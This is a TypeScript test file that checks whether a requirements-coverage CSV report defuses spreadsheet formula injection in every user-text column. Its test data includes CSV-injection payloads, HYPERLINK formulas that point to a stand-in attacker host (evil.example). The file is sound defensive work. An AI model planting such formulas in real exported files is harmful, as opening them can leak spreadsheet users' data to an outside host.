/**
 * CSV injection (OWASP): a cell that starts with = + - @, a tab or a carriage return can run as a
 * formula when the file is opened in a spreadsheet. Every column that holds user text is tried with
 * every lead character; each such cell must come back, once the CSV is read, with a ' in front.
 */
import { describe, expect, it } from 'vitest';
import { computeCoverage } from '../../server/src/core/report/coverage';
import { renderReport } from './renderReport';
import { workspace } from './fixture';

const LEAD_CHARACTERS = ['=', '+', '-', '@', '\t', '\r'];

/** A formula led by `lead` that names its column, with a quote and a comma so the cell must also be quoted. */
const formula = (lead: string, column: string): string => `${lead}HYPERLINK("http://evil.example/?${column}","x")`;

/** Reads RFC 4180 CSV (CRLF rows, "" inside quoted cells) back into cells. */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted && ch === '"' && csv[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  expect(cell === '' && row.length === 0 && !quoted, 'the CSV ends with a whole row').toBe(true);
  return rows;
}

/** One need → requirement → clause row whose every user-text cell (ids, titles, departments, priorities, response, file) starts with `lead`. */
function leadWorkspace(lead: string) {
  const y = (column: string): string => JSON.stringify(formula(lead, column));
  return workspace({
    'n.needs.yaml': `kind: needs
items:
  - id: ${y('need')}
    title: ${y('need title')}
    as: a
    need: b
    so-that: c
    departments: [${y('departments')}]
    priority: ${y('need priority')}
`,
    'r.reqs.yaml': `kind: requirements
items:
  - id: ${y('requirement')}
    title: ${y('requirement title')}
    statement: s
    type: functional
    priority: ${y('requirement priority')}
    satisfies: [${y('need')}]
`,
    'c.itt.yaml': `kind: itt
items:
  - id: ${y('clause')}
    title: ${y('clause title')}
    text: t
    response: ${y('response')}
    weighting: 10
    covers: [${y('requirement')}]
`,
  });
}

describe('csv report defuses formulas', () => {
  for (const lead of LEAD_CHARACTERS) {
    it(`in every user-text column, for cells led by ${JSON.stringify(lead)}`, () => {
      const ws = leadWorkspace(lead);
      const csv = renderReport('csv', computeCoverage(ws.index), { title: 't', pathOf: (uri) => formula(lead, 'file') + uri.replace('file:///ws/', '/') });
      const defused = (column: string): string => `'${formula(lead, column)}`;
      expect(readCsv(csv)).toEqual([
        ['need', 'need title', 'departments', 'need priority', 'need state', 'requirement', 'requirement title', 'requirement priority', 'requirement state', 'clause', 'clause title', 'response', 'weighting', 'file'],
        [
          defused('need'), defused('need title'), defused('departments'), defused('need priority'), 'traced',
          defused('requirement'), defused('requirement title'), defused('requirement priority'), 'covered',
          defused('clause'), defused('clause title'), defused('response'), '10', `${defused('file')}/c.itt.yaml`,
        ],
      ]);
    });
  }

  it('quotes a defused cell as RFC 4180 asks', () => {
    const ws = leadWorkspace('@');
    const csv = renderReport('csv', computeCoverage(ws.index), { title: 't', pathOf: (uri) => uri.replace('file:///ws/', '') });
    expect(csv.split('\r\n')[1]).toBe(
      `"'@HYPERLINK(""http://evil.example/?need"",""x"")","'@HYPERLINK(""http://evil.example/?need title"",""x"")","'@HYPERLINK(""http://evil.example/?departments"",""x"")",` +
        `"'@HYPERLINK(""http://evil.example/?need priority"",""x"")",traced,"'@HYPERLINK(""http://evil.example/?requirement"",""x"")",` +
        `"'@HYPERLINK(""http://evil.example/?requirement title"",""x"")","'@HYPERLINK(""http://evil.example/?requirement priority"",""x"")",covered,` +
        `"'@HYPERLINK(""http://evil.example/?clause"",""x"")","'@HYPERLINK(""http://evil.example/?clause title"",""x"")","'@HYPERLINK(""http://evil.example/?response"",""x"")",10,c.itt.yaml`,
    );
  });

  it('leaves cells that only hold a lead character further in as they are', () => {
    const ws = workspace({
      'n.needs.yaml': 'kind: needs\nitems:\n  - id: UN-1\n    title: "1+1=2 @home -ish"\n    as: a\n    need: b\n    so-that: c\n',
    });
    const csv = renderReport('csv', computeCoverage(ws.index), { title: 't', pathOf: (uri) => uri.replace('file:///ws/', '') });
    expect(readCsv(csv)[1]).toEqual(['UN-1', '1+1=2 @home -ish', '', '', 'uncovered', '', '', '', '', '', '', '', '', 'n.needs.yaml']);
  });
});
